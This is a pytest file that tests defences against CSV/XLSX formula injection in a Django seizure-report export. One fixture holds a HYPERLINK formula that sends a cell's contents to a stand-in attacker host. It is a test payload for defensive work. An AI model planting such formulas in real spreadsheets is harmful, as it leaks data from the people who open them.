"""Exports never hand a spreadsheet a formula: a member's text that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is exported with a leading apostrophe, and XLSX text
cells are strings, never formulas. Written from the side that opens the file: KZ exports a
report UZ shared with the network."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import neutralise
from members.models import RoleName
from tests.factories import member_user
from tests.factories.seizures import SeizureReportFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.test/?d="&A1,"Open")'


@pytest.fixture
def shared_by_uz(uz):
    return SeizureReportFactory(
        reporting_member=uz,
        reference="UZ-INJECT-1",
        sharing="network",
        concealment=FORMULA,
        vessel_or_flight="+7(999)",
        vehicle="@SUM(1+1)",
    )


@pytest.fixture
def kz_client(client, kz):
    client.force_login(member_user(kz, RoleName.ANALYST, username="analyst.kz.export"))
    return client


def test_csv_export_neutralises_formula_text(kz_client, shared_by_uz):
    response = kz_client.get(reverse("seizures:export", args=["csv"]))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = {r["reference"]: r for r in csv.DictReader(io.StringIO(text))}
    row = rows["UZ-INJECT-1"]  # KZ does see the shared report
    assert row["concealment"] == "'" + FORMULA
    assert row["vessel_or_flight"] == "'+7(999)"
    assert row["vehicle"] == "'@SUM(1+1)"
    assert row["quantity"] == "10"  # numbers are left as they are


def test_xlsx_export_writes_formula_text_as_a_string_cell(kz_client, shared_by_uz):
    response = kz_client.get(reverse("seizures:export", args=["xlsx"]))
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(archive.read(n).decode() for n in sheets)
        strings = (
            archive.read("xl/sharedStrings.xml").decode()
            if "xl/sharedStrings.xml" in archive.namelist()
            else ""
        )
    assert "<f>" not in xml and "<f " not in xml
    assert "HYPERLINK" in xml + strings  # the text is there, as text
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    header = [c.value for c in sheet[2]]  # the column codes (row 1: the readers' headers)
    row = next(r for r in sheet.iter_rows(min_row=3) if r[0].value == "UZ-INJECT-1")
    cell = row[header.index("concealment")]
    assert cell.data_type == "s"
    assert cell.value == "'" + FORMULA


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("false floor", "false floor"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_prefixes_only_text_a_spreadsheet_would_evaluate(text, expected):
    assert neutralise(text) == expected


def test_import_template_is_written_by_the_same_safe_writer(client, kz):
    client.force_login(member_user(kz, RoleName.ANALYST, username="analyst.kz.template"))
    response = client.get(reverse("seizures:import-template", args=["xlsx"]))
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        xml = "".join(
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
        )
    assert "<f>" not in xml
